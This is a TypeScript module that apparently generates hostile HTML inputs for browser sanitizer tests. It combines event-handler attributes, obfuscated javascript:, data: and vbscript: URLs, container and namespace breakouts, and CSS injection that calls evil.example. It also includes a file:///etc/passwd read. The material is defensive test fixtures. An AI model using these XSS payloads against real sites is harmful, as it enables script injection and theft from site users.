/**
 * Hostile markup by kind, each kind a table of what can be combined with what: every handler on every element that fires
 * it, every spelling of a scheme in every attribute that leads somewhere, every container that a second parser may leave
 * early. RUN and ORIGIN as in `tests/browser/hostile-inputs.ts`. Origin of the parts: HTML Living Standard 8.1.8.2 (event handlers), 4.8 and
 * 4.10 (addresses), 13.2.5 (states of the tokenizer).
 */
export const hostileKinds: Readonly<Record<string, readonly string[]>> = {
  handlers: combine(
    [
      'img src=x',
      'video src=x',
      'audio src=x',
      'svg',
      'body',
      'details open',
      'input autofocus',
      'p',
      'a href=https://ok.example/',
      'custom-tag',
      'iframe',
      'math',
    ],
    [
      'onerror',
      'onload',
      'onfocus',
      'ontoggle',
      'onclick',
      'onmouseover',
      'onpointerrawupdate',
      'onanimationstart',
      'onbeforematch',
      'ontransitionend',
      'onloadstart',
      'oncontentvisibilityautostatechange',
      'onscrollend',
    ],
    (element, handler) => `<${element} ${handler}=RUN>x`,
  ),
  separators: combine(
    ['img', 'svg', 'video'],
    ['/', '\t', '\n', '\f', '\r', '/x="1"', ' x="1"', " x='>'", ' /="', ' =a '],
    (element, between) => `<${element}${between}src=x${between === '/' ? '/' : ' '}onerror=RUN onload=RUN>`,
  ),
  schemes: combine(
    [
      ...[
        'javascript:RUN',
        'JaVaScRiPt:RUN',
        ' javascript:RUN',
        '&#1;javascript:RUN',
        'java&#9;script:RUN',
        'java&#10;script:RUN',
      ],
      ...[
        'java&Tab;script:RUN',
        'javascript&colon;RUN',
        '&#x6A;avascript:RUN',
        '&#0000106avascript:RUN',
        'javascript:%0aRUN',
        'javascript://%0aRUN',
      ],
      ...[
        'data:text/html,<script>RUN</script>',
        'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg',
        'data:image/svg+xml,<svg onload=RUN>',
        'vbscript:RUN',
      ],
      ...[
        'view-source:javascript:RUN',
        'feed:javascript:RUN',
        'blob:RUN',
        'filesystem:RUN',
        'file:///etc/passwd',
        'livescript:RUN',
        '\u0000javascript:RUN',
      ],
    ],
    [
      ...[
        '<a href="URL">x</a>',
        '<area href="URL">',
        '<img src="URL">',
        '<img srcset="URL 2x">',
        '<picture><source srcset="URL"><img></picture>',
      ],
      ...[
        '<img data-src="URL">',
        '<video poster="URL" src="URL"></video>',
        '<iframe src="URL"></iframe>',
        '<object data="URL"></object>',
        '<embed src="URL">',
      ],
      ...[
        '<form action="URL"><button>x</button></form>',
        '<button formaction="URL">x</button>',
        '<svg><a xlink:href="URL">x</a></svg>',
      ],
      ...[
        '<blockquote cite="URL">x</blockquote>',
        '<link rel=stylesheet href="URL">',
        '<meta http-equiv=refresh content="0;url=URL">',
      ],
    ],
    (address, carrier) => carrier.replaceAll('URL', address),
  ),
  containers: combine(
    [
      'noscript',
      'textarea',
      'title',
      'style',
      'xmp',
      'iframe',
      'noembed',
      'noframes',
      'template',
      'select',
      'option',
      'svg',
      'math',
      'plaintext',
      'listing',
      'object',
      'desc',
      'mtext',
      'annotation-xml encoding=text/html',
    ],
    [
      '<p title="</NAME><img src=x onerror=RUN>">',
      '<!--</NAME><img src=x onerror=RUN>-->',
      '</NAME><img src=x onerror=RUN>',
      '<![CDATA[</NAME><img src=x onerror=RUN>]]>',
    ],
    (container, inside) => `<${container}>${inside.replaceAll('NAME', container.split(' ')[0] ?? '')}`,
  ),
  namespaces: combine(
    [
      '<math><mtext><table><mglyph>',
      '<svg><foreignObject>',
      '<svg><desc>',
      '<math><annotation-xml encoding="text/html">',
      '<form><math><mtext></form><form><mglyph>',
      '<svg><title>',
      '<table><caption><svg>',
    ],
    [
      '<style><img src=x onerror=RUN>',
      '<style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
      '<img src=x onerror=RUN>',
      '<script>RUN</script>',
      '<a id="</style><img src=x onerror=RUN>">',
      '<image href=x onerror=RUN>',
    ],
    (outside, inside) => `${outside}${inside}`,
  ),
  styles: combine(
    [
      '<p style="STYLE">x</p>',
      '<style>p{STYLE}</style><p>x</p>',
      '<svg><rect style="STYLE" /></svg>',
      '<table style="STYLE"><tr><td>x</td></tr></table>',
    ],
    [
      'background:url(https://evil.example/a.png)',
      'behavior:url(https://evil.example/a.htc)',
      'width:expression(RUN)',
      "background:url('javascript:RUN')",
      '-moz-binding:url(https://evil.example/x.xml#y)',
      'position:fixed;inset:0;z-index:9',
      '@import "https://evil.example/i.css";',
      'list-style-image:url(//evil.example/b.png)',
    ],
    (carrier, style) => carrier.replaceAll('STYLE', style.replaceAll('"', '&quot;')),
  ),
}

function combine(
  ones: readonly string[],
  others: readonly string[],
  join: (one: string, other: string) => string,
): readonly string[] {
  return ones.flatMap((one) => others.map((other) => join(one, other)))
}
